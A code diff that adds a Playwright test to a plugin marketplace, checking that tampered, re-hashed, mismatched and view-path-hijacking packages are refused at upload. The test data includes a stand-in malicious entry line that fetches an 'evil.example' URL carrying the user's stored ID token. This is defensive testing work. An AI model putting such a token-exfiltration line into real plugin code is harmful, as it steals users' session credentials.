@@ -6,14 +6,16 @@
  * a reload (pushed over the realtime socket) → uninstall on the installed-plugins page removes them there, and the
  * open page says the extension was removed.
  */
-import { rmSync } from 'node:fs';
-import { dirname } from 'node:path';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
 import { expect, test, type Page } from '@playwright/test';
 import { SYS_ADMIN, TENANT_ADMIN } from './support/accounts';
 import { apiCall, apiLogin } from './support/api';
 import { coreText } from './support/locales';
 import { hashPath, loginViaApi } from './support/login';
-import { buildMarketPack, publisherKey, type BuiltPack } from './support/market-pack';
+import { buildMarketPack, cli, publisherKey, type BuiltPack } from './support/market-pack';
 
 const ID = 'acme.market-meter';
 const TITLE_CH = '市场电表';
@@ -97,5 +99,60 @@ test.describe('plugin market', () => {
     await expect(leaf).toHaveCount(0);
     expect(await tenantReloads()).toEqual({ loads: 0, marker: 'before-install' });
     await tenantContext.close();
+  });
+
+  test('tampered, re-hashed, colliding and mismatched packages are refused on the market page with the reason', async ({ page, request }) => {
+    test.setTimeout(120_000);
+    const key = publisherKey();
+    const admin = await apiLogin(request, SYS_ADMIN);
+    expect((await apiCall(request, admin.token, '/market/keys/add', { name: 'Acme tamper', public_key: key.publicKey })).code).toBe(200);
+    const good = buildMarketPack('market-meter', { sign: key });
+    const work = mkdtempSync(join(tmpdir(), 'tessera-tampered-'));
+    const sri = (b: Buffer) => `sha384-${createHash('sha384').update(b).digest('base64')}`;
+    const write = (name: string, pack: unknown) => {
+      const file = join(work, `${name}.tessera.json`);
+      writeFileSync(file, JSON.stringify(pack));
+      return file;
+    };
+    const p = good.pack;
+    // A locale file changed after signing (integrity map untouched).
+    const locale = write('locale', { ...p, files: { ...p.files, 'locales/en.json': Buffer.from('{"title":"pwned"}').toString('base64') } });
+    // The entry changed and re-hashed everywhere (manifest, packed extension.json, integrity map), the old signature kept.
+    const evil = Buffer.from('fetch("https://evil.example/?t=" + localStorage.id_token);');
+    const manifest = { ...p.manifest, integrity: sri(evil) };
+    const manifestBytes = Buffer.from(JSON.stringify(manifest));
+    const rehashed = write('rehashed', {
+      ...p, manifest, files: { ...p.files, 'index.js': evil.toString('base64'), 'extension.json': manifestBytes.toString('base64') },
+      integrity: { ...p.integrity, 'index.js': sri(evil), 'extension.json': sri(manifestBytes) },
+    });
+    // The outer manifest differs from the packed extension.json.
+    const mismatch = write('mismatch', { ...p, manifest: { ...p.manifest, displayName: { en: 'Someone else' } } });
+    // A correctly signed package claiming the market's own view path.
+    const thiefDir = join(dirname(good.dir), 'thief');
+    cli(['build', good.dir, '--out', thiefDir], good.dir);
+    const thiefManifest = JSON.parse(readFileSync(join(thiefDir, 'extension.json'), 'utf8'));
+    thiefManifest.id = 'acme.thief';
+    thiefManifest.i18n.namespace = 'acme.thief';
+    thiefManifest.contributes = { views: [{ id: 'meter', viewPath: '/pages/market/store' }] };
+    writeFileSync(join(thiefDir, 'extension.json'), JSON.stringify(thiefManifest));
+    cli(['pack', thiefDir, '--out', work, '--sign', key.file], thiefDir);
+
+    await loginViaApi(page, request, SYS_ADMIN, '/apps/market');
+    await page.locator('.tessera-top-bar .tessera-language-switch select').selectOption('en');
+    const result = page.getByTestId('install-result');
+    const refused = async (file: string, reason: string) => {
+      await page.locator('#market-upload').setInputFiles(file);
+      await expect(result).toContainText('was refused');
+      await expect(result).toContainText(reason);
+    };
+    await refused(locale, 'files.locales/en.json: does not match its sha384 in the package integrity');
+    await refused(rehashed, 'signature: does not verify');
+    await refused(mismatch, 'manifest: differs from the packed extension.json');
+    await refused(join(work, 'acme.thief-1.0.0.tessera.json'), 'The view path /pages/market/store is already provided by the extension tessera.market');
+    const installed = await apiCall<Array<{ manifest: { id: string } }>>(request, admin.token, '/market/installed');
+    expect(installed.data.map((e) => e.manifest.id)).not.toContain('acme.thief');
+    expect(installed.data.map((e) => e.manifest.id)).not.toContain(ID);
+    rmSync(work, { recursive: true, force: true });
+    rmSync(dirname(good.dir), { recursive: true, force: true });
   });
 });
